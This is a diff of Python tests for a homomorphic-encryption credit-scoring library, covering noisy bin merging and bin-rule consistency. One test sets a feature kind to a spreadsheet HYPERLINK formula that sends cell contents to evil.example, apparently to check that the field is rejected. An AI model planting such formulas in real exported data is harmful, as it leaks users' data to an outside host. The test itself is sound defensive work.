@@ -149,11 +149,13 @@ def test_a_bureau_features_kind_is_numeric_or_category_never_free_text():
     from xinrong.v1 import model_pb2
 
     pub, priv = he.generate_keypair(768, allow_test_keys=True)
-    counts = he.OwnerEncryptor(priv).encrypt([10, 30, 90, 70])  # positives, then negatives
-    sums = he.pack_sums(counts, 14, he.PeerEncryptor(pub))
+    offset, bits = binning.NOISE_BOUND, binning.BinNoise(0.0625).slot_bits(200)
+    counts = [10, 30, 90, 70]  # positives, then negatives
+    encrypted = he.OwnerEncryptor(priv).encrypt([c + offset for c in counts])
+    sums = he.pack_sums(encrypted, bits, he.PeerEncryptor(pub))
     feature = model_pb2.FeatureBins(
-        name="insured_employees", kind="numeric", bins=2, ordered=True,
-        missing_bin=-1, slot_bits=14, sums=he.ciphertexts_to_bytes(sums, pub),
+        name="insured_employees", kind="numeric", bins=2, ordered=True, missing_bin=-1,
+        slot_bits=bits, sums=he.ciphertexts_to_bytes(sums, pub), noise_offset=offset,
     )  # fmt: skip
     assert _bureau_feature(feature, priv, pub, 200, 40, True).kind == "numeric"
     feature.kind = '=HYPERLINK("http://evil.example/?"&A1,"numeric")'
@@ -182,7 +184,7 @@ def test_noisy_bins_are_merged_until_they_carry_more_than_the_noise():
         # what the bank receives: positives, then negatives, each with the bureau's noise
         z = noise.sample(len(totals), rng.randrange) + noise.sample(len(totals), rng.randrange)
         slots = [c + e for c, e in zip(bads + goods, z, strict=True)]
-        got = binning.noisy_bins(slots, noise.offset, sum(bads), sum(totals), "x")
+        got = binning.noisy_bins(slots, noise.offset, sum(bads), sum(totals), "x", noise.sigma)
         raw.append(binning.evaluate_feature("x", "bureau", "numeric", got, True, None).iv)
         stats, missing = binning.merge_for_noise(got, True, None, 5 * noise.sigma)
         assert min(min(b, t - b) for b, t in zip(stats.bads, stats.totals, strict=True)) >= 20
@@ -206,3 +208,32 @@ def test_small_categories_and_a_small_missing_bin_are_merged_for_the_noise():
     one = binning.BinStatistics([100, 1000, 1000], [3, 200, 300])
     merged, _ = binning.merge_for_noise(one, False, None, 20)
     assert min(min(b, t - b) for b, t in zip(merged.bads, merged.totals, strict=True)) >= 20
+
+
+numbers = st.lists(st.one_of(st.none(), st.integers(0, 30).map(float)), min_size=1, max_size=300)
+levels = st.lists(st.one_of(st.none(), st.sampled_from("ABCDEFGHIJ")), min_size=1, max_size=300)
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    values=st.one_of(numbers, levels),
+    max_bins=st.integers(2, 12),
+    min_count=st.integers(1, 40),
+    data=st.data(),
+)
+def test_a_bin_rule_fitted_on_a_table_bins_any_of_its_rows_alike(values, max_bins, min_count, data):
+    """The bureau fits its bins on its whole table and applies them to a session's rows: a
+    row's bin is the same whichever rows are with it, the rule's bins are all there are, and
+    fitting on a column and applying to it is the bank's ``bin_column``."""
+    column = pa.array(values)
+    rule = binning.fit_bins("f", column, max_bins, min_count)
+    whole = rule.apply(column)
+    assert (
+        whole.index.tolist() == binning.bin_column("f", column, max_bins, min_count).index.tolist()
+    )
+    assert whole.labels == rule.labels and whole.missing_bin == rule.missing_bin
+    assert set(whole.index.tolist()) <= set(range(rule.count))
+    rows = data.draw(st.lists(st.integers(0, len(values) - 1), max_size=40))
+    part = rule.apply(column.take(pa.array(rows, pa.int64())))
+    assert part.index.tolist() == [int(whole.index[r]) for r in rows]
+    assert part.labels == rule.labels  # the same bins, however few rows a session has
